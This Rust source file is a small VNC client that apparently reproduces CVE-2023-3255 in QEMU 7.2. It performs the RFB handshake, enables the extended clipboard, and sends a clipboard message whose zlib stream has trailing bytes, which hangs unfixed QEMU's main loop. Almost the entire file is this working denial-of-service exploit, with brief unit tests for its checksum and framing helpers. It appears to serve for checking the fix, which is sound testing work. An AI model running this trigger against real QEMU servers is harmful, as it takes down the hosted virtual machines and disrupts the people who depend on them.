//! A VNC (RFB 3.8) client just large enough to send CVE-2023-3255's trigger: an extended
//! clipboard "provide" message whose zlib stream is followed by more bytes. QEMU 7.2 before
//! the fix inflates it in a loop that never ends (`inflate` keeps answering `Z_STREAM_END`
//! while input is left), so the main loop hangs; the fixed `inflate_buffer` returns.

use std::io::{Read, Write};
use std::os::unix::net::UnixStream;
use std::path::Path;
use std::time::Duration;

use anyhow::{bail, Context, Result};

const CLIENT_CUT_TEXT: u8 = 6;
const SET_ENCODINGS: u8 = 2;
const SERVER_CUT_TEXT: u8 = 3;
const ENCODING_CLIPBOARD_EXT: u32 = 0xc0a1_e5ce;
const CLIPBOARD_TEXT: u32 = 1;
const CLIPBOARD_CAPS: u32 = 1 << 24;
const CLIPBOARD_NOTIFY: u32 = 1 << 27;
const CLIPBOARD_PROVIDE: u32 = 1 << 28;

/// A connected client, past the handshake, with the extended clipboard enabled.
pub struct Vnc(UnixStream);

impl Vnc {
    /// Connects to QEMU's VNC socket and enables the extended clipboard.
    pub fn connect(path: &Path) -> Result<Vnc> {
        let s = UnixStream::connect(path).with_context(|| format!("connect {}", path.display()))?;
        s.set_read_timeout(Some(Duration::from_secs(60)))?;
        let mut v = Vnc(s);
        let version = v.read_n(12)?;
        if !version.starts_with(b"RFB 003.") {
            bail!("not a VNC server: {:?}", String::from_utf8_lossy(&version));
        }
        v.0.write_all(b"RFB 003.008\n")?;
        let n = v.read_n(1)?[0] as usize;
        if n == 0 {
            bail!("the VNC server refused the connection");
        }
        if !v.read_n(n)?.contains(&1) {
            bail!("the VNC server does not offer security type None");
        }
        v.0.write_all(&[1])?;
        if v.read_u32()? != 0 {
            bail!("the VNC server refused security type None");
        }
        v.0.write_all(&[1])?; // ClientInit: shared
        v.read_n(2 + 2 + 16)?; // ServerInit: size, pixel format
        let name_len = v.read_u32()? as usize;
        v.read_n(name_len)?;
        v.enable_clipboard()?;
        Ok(v)
    }

    fn read_n(&mut self, n: usize) -> Result<Vec<u8>> {
        let mut b = vec![0; n];
        self.0
            .read_exact(&mut b)
            .context("the VNC server did not answer")?;
        Ok(b)
    }

    fn read_u32(&mut self) -> Result<u32> {
        let b = self.read_n(4)?;
        Ok(u32::from_be_bytes([b[0], b[1], b[2], b[3]]))
    }

    /// SetEncodings with only the extended clipboard pseudo-encoding; QEMU answers with its
    /// clipboard capabilities, which are read: an answer means every message sent before has
    /// been handled.
    pub fn enable_clipboard(&mut self) -> Result<()> {
        let mut m = vec![SET_ENCODINGS, 0, 0, 1];
        m.extend_from_slice(&ENCODING_CLIPBOARD_EXT.to_be_bytes());
        self.0.write_all(&m)?;
        let head = self.read_n(8)?;
        let len = i32::from_be_bytes([head[4], head[5], head[6], head[7]]);
        if head[0] != SERVER_CUT_TEXT || len >= 0 {
            bail!("expected the server's clipboard capabilities, got {head:?}");
        }
        let body = self.read_n(len.unsigned_abs() as usize)?;
        let flags = u32::from_be_bytes([body[0], body[1], body[2], body[3]]);
        if flags & CLIPBOARD_CAPS == 0 {
            bail!("the server's first clipboard message is not its capabilities");
        }
        Ok(())
    }

    fn send_ext(&mut self, flags: u32, data: &[u8]) -> Result<()> {
        let len = i32::try_from(4 + data.len())?;
        let mut m = vec![CLIENT_CUT_TEXT, 0, 0, 0];
        m.extend_from_slice(&(-len).to_be_bytes());
        m.extend_from_slice(&flags.to_be_bytes());
        m.extend_from_slice(data);
        self.0.write_all(&m)?;
        Ok(())
    }

    /// Sends the trigger: the client announces text on its clipboard, then provides it as a
    /// zlib stream with bytes after its end.
    pub fn send_cve_2023_3255(&mut self) -> Result<()> {
        self.send_ext(CLIPBOARD_NOTIFY | CLIPBOARD_TEXT, &[])?;
        let text = b"CVE-2023-3255";
        let mut payload = (text.len() as u32).to_be_bytes().to_vec();
        payload.extend_from_slice(text);
        let mut data = zlib_stored(&payload);
        data.extend_from_slice(b"bytes after the end of the stream");
        self.send_ext(CLIPBOARD_PROVIDE | CLIPBOARD_TEXT, &data)
    }
}

/// `data` as a zlib stream of one stored (uncompressed) block.
fn zlib_stored(data: &[u8]) -> Vec<u8> {
    let len = u16::try_from(data.len()).expect("one stored block");
    let mut z = vec![0x78, 0x01, 0x01];
    z.extend_from_slice(&len.to_le_bytes());
    z.extend_from_slice(&(!len).to_le_bytes());
    z.extend_from_slice(data);
    z.extend_from_slice(&adler32(data).to_be_bytes());
    z
}

fn adler32(data: &[u8]) -> u32 {
    let (mut a, mut b) = (1u32, 0u32);
    for &x in data {
        a = (a + u32::from(x)) % 65521;
        b = (b + a) % 65521;
    }
    (b << 16) | a
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn adler32_of_wikipedia() {
        assert_eq!(adler32(b"Wikipedia"), 0x11E6_0398);
    }

    #[test]
    fn stored_block_framing() {
        let z = zlib_stored(b"abc");
        assert_eq!(&z[..7], &[0x78, 0x01, 0x01, 3, 0, 0xfc, 0xff]);
        assert_eq!(&z[7..10], b"abc");
        assert_eq!(z.len(), 14);
    }
}
